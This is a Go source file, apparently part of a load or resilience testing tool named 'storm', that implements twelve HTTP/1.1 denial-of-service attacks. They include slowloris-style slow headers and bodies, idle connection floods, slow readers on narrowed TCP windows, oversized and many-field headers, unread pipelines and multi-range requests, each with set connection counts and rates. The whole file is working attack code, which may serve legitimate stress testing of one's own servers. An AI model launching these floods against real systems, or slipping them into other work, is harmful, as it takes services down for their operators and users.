package storm

import (
	"fmt"
	"io"
	"strings"
	"time"
)

func http1Attacks() []Attack {
	return []Attack{
		{Name: "connections", What: "connections without a byte", Unit: "connections",
			Conns: 2000, Dials: 800, Rate: 1e6, run: idle},
		{Name: "connections, one request each", What: "connections kept after one request", Unit: "connections",
			Conns: 2000, Dials: 800, Rate: 1e6, run: askOnce},
		{Name: "slow heads", What: "heads that grow by a byte twice a second", Unit: "bytes",
			Conns: 1000, Dials: 800, Rate: 4000, run: slowHead},
		{Name: "slow bodies", What: "bodies that grow by a byte twice a second", Unit: "bytes",
			Conns: 1000, Dials: 800, Rate: 4000, run: slowBody},
		{Name: "slow bodies at a rate", What: "bodies of 1.5 KB a second each, for ever", Unit: "writes",
			Conns: 1000, Dials: 800, Rate: 10000, run: steadyBody},
		{Name: "slow readers", What: "large answers that nobody reads, into tiny receive buffers", Unit: "requests",
			Conns: 1000, Dials: 800, Rate: 1e6, run: slowReader},
		{Name: "trickling readers", What: "large answers read at 2 KB a second each", Unit: "reads",
			Conns: 1000, Dials: 800, Rate: 1e6, run: trickle},
		{Name: "large heads", What: "heads of 1 MB, in one field", Unit: "heads",
			Conns: 16, Dials: 200, Rate: 200, run: largeHead},
		{Name: "many fields", What: "heads of 5,000 fields", Unit: "heads",
			Conns: 16, Dials: 400, Rate: 400, run: manyFields},
		{Name: "unfinished heads", What: "15 KB of a head each, and nothing more", Unit: "heads",
			Conns: 1500, Dials: 500, Rate: 1e6, run: unfinishedHead},
		{Name: "pipelines unread", What: "requests without end and no answer read", Unit: "requests",
			Conns: 64, Dials: 100, Rate: 4000, run: pipeline},
		{Name: "ranges", What: "100 ranges of a large answer in each request", Unit: "requests",
			Conns: 32, Dials: 200, Rate: 200, run: ranges},
	}
}

// request is a head up to its end, which is left out.
func request(method, path, host string) string {
	return method + " " + path + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n"
}

// idle keeps the connection.
func idle(s *storm, c *line) error {
	if !s.may(1) {
		return nil
	}
	return c.hold()
}

func askOnce(s *storm, c *line) error {
	if !s.may(1) {
		return nil
	}
	if _, err := io.WriteString(c, request("GET", s.to.Page, s.to.Host)+"\r\n"); err != nil {
		return err
	}
	return c.hold()
}

// drip sends text byte by byte, with a pause before each, again and again.
func (s *storm) drip(c io.Writer, text string, every time.Duration) error {
	for {
		for i := range len(text) {
			if !s.pause(every) || !s.may(1) {
				return nil
			}
			if _, err := io.WriteString(c, text[i:i+1]); err != nil {
				return err
			}
		}
	}
}

func slowHead(s *storm, c *line) error {
	c.discard()
	if _, err := io.WriteString(c, request("GET", s.to.Page, s.to.Host)); err != nil {
		return err
	}
	return s.drip(c, "X-A: b\r\n", 500*time.Millisecond)
}

func slowBody(s *storm, c *line) error {
	c.discard()
	if _, err := io.WriteString(c, request("POST", s.to.Sink, s.to.Host)+"Content-Length: 1000000\r\n\r\n"); err != nil {
		return err
	}
	return s.drip(c, "a", 500*time.Millisecond)
}

// steadyBody sends as much as a slow but honest visitor would.
func steadyBody(s *storm, c *line) error {
	c.discard()
	if _, err := io.WriteString(c, request("POST", s.to.Sink, s.to.Host)+"Content-Length: 100000000\r\n\r\n"); err != nil {
		return err
	}
	part := strings.Repeat("a", 375)
	for s.pause(250*time.Millisecond) && s.may(1) {
		if _, err := io.WriteString(c, part); err != nil {
			return err
		}
	}
	return nil
}

// narrow replaces the connection by one whose window is as small as the kernel
// allows.
func (s *storm) narrow(c *line) (*line, error) {
	c.close()
	return s.connect(s.to.Clear, 1)
}

func slowReader(s *storm, c *line) error {
	n, err := s.narrow(c)
	if err != nil {
		return err
	}
	defer n.close()
	if !s.may(1) {
		return nil
	}
	if _, err := io.WriteString(n, request("GET", s.to.Large, s.to.Host)+"\r\n"); err != nil {
		return err
	}
	return n.unread()
}

func trickle(s *storm, c *line) error {
	n, err := s.narrow(c)
	if err != nil {
		return err
	}
	defer n.close()
	if _, err := io.WriteString(n, request("GET", s.to.Large, s.to.Host)+"\r\n"); err != nil {
		return err
	}
	b := make([]byte, 512)
	for s.pause(250*time.Millisecond) && s.may(1) {
		if _, err := io.ReadFull(n, b); err != nil {
			if s.ctx.Err() != nil {
				return nil
			}
			return err
		}
	}
	return nil
}

// post sends one thing, reads until the other side ends, and ends.
func (s *storm) post(c *line, text string) error {
	if !s.may(1) {
		return nil
	}
	c.discard()
	// The answer may come, and the connection end, before all was sent.
	if _, err := io.WriteString(c, text); err != nil {
		return err
	}
	select {
	case <-c.gone:
	case <-time.After(time.Second):
	case <-s.ctx.Done():
	}
	return nil
}

func largeHead(s *storm, c *line) error {
	return s.post(c, request("GET", s.to.Hidden, s.to.Host)+"X-Large: "+strings.Repeat("a", 1<<20)+"\r\n\r\n")
}

func manyFields(s *storm, c *line) error {
	var b strings.Builder
	b.WriteString(request("GET", s.to.Hidden, s.to.Host))
	for i := range 5000 {
		fmt.Fprintf(&b, "X-%d: y\r\n", i)
	}
	b.WriteString("\r\n")
	return s.post(c, b.String())
}

func unfinishedHead(s *storm, c *line) error {
	if !s.may(1) {
		return nil
	}
	if _, err := io.WriteString(c, request("GET", s.to.Page, s.to.Host)+"X-Large: "+strings.Repeat("a", 15<<10)); err != nil {
		return err
	}
	return c.hold()
}

func pipeline(s *storm, c *line) error {
	text := strings.Repeat(request("GET", s.to.Page, s.to.Host)+"\r\n", 20)
	for s.may(20) {
		if _, err := io.WriteString(c, text); err != nil {
			return err
		}
	}
	return nil
}

// TooManyRanges is how many ranges the attack "ranges" asks for at once.
const TooManyRanges = 100

func ranges(s *storm, c *line) error {
	list := make([]string, TooManyRanges)
	for i := range list {
		list[i] = fmt.Sprintf("%d-", i)
	}
	c.discard()
	for s.may(1) {
		if _, err := io.WriteString(c, request("GET", s.to.Large, s.to.Host)+"Range: bytes="+strings.Join(list, ",")+"\r\n\r\n"); err != nil {
			return err
		}
		// Whoever drowns in answers of its own has no time to ask.
		if !s.pause(50 * time.Millisecond) {
			return nil
		}
	}
	return nil
}
